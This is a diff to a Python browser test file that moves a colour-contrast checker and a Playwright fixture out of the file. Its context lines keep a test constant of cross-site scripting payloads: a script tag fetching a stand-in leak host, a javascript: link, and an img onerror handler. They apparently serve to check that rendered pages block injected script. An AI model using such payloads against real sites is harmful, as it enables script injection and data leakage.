@@ -2,7 +2,6 @@
 
 from __future__ import annotations
 
-import os
 import shutil
 import subprocess
 from collections.abc import Iterator
@@ -12,12 +11,10 @@ from pathlib import Path
 import nbformat
 import pytest
 from nbformat.v4 import new_code_cell, new_markdown_cell, new_output
-from playwright.sync_api import sync_playwright
 
+from tests.browser import CONTRAST
 from tests.conftest import BIN, SHORT, hand_in
-from tests.flow.test_formgrader import CHROMIUM
-from viva.doctor import find_browser
-from viva.hidden import Hidden, Veil, hidden_of
+from viva.pages.hidden import Hidden, Veil, hidden_of
 
 pytestmark = [pytest.mark.xdist_group("browser"), pytest.mark.slow]
 
@@ -34,47 +31,6 @@ HOSTILE = """<script>fetch('https://leak.example/1'); document.title = 'taken'</
 $\\href{javascript:document.title='taken'}{x}$ $\\text{<img src=x onerror=document.title='taken'>}$
 """
 WIDTHS = {390: 844, 1280: 900}
-
-CONTRAST = """() => {
-  const canvas = document.createElement('canvas').getContext('2d', {willReadFrequently: true});
-  const rgba = colour => {
-    canvas.clearRect(0, 0, 1, 1); canvas.fillStyle = colour; canvas.fillRect(0, 0, 1, 1);
-    return canvas.getImageData(0, 0, 1, 1).data;
-  };
-  const light = colour => {
-    const [r, g, b] = [...colour].slice(0, 3).map(v => v / 255).map(
-      v => v <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4);
-    return 0.2126 * r + 0.7152 * g + 0.0722 * b;
-  };
-  const behind = element => {
-    for (let e = element; e; e = e.parentElement) {
-      const found = rgba(getComputedStyle(e).backgroundColor);
-      if (found[3] === 255) return found;
-    }
-    return rgba('white');
-  };
-  const poor = new Map();
-  for (const element of document.querySelectorAll('body *')) {
-    if (![...element.childNodes].some(n => n.nodeType === 3 && n.data.trim())) continue;
-    const style = getComputedStyle(element);
-    const [a, b] = [light(rgba(style.color)), light(behind(element))].sort((x, y) => y - x);
-    const ratio = (a + 0.05) / (b + 0.05);
-    if (ratio < 4.5) poor.set(`${element.tagName}.${element.className}`, ratio.toFixed(2));
-  }
-  return [...poor];
-}"""
-
-
-@pytest.fixture(scope="module")
-def browser():
-    path = find_browser()
-    if path is None:
-        sentence = "There is no browser to look at feedback with. Install one: sudo apt-get install chromium"
-        (pytest.fail if os.environ.get("VIVA_NOTHING_SKIPPED") else pytest.skip)(sentence)
-    with sync_playwright() as playwright:
-        chromium = playwright.chromium.launch(executable_path=path, args=CHROMIUM)
-        yield chromium
-        chromium.close()
 
 
 @pytest.fixture(scope="module")
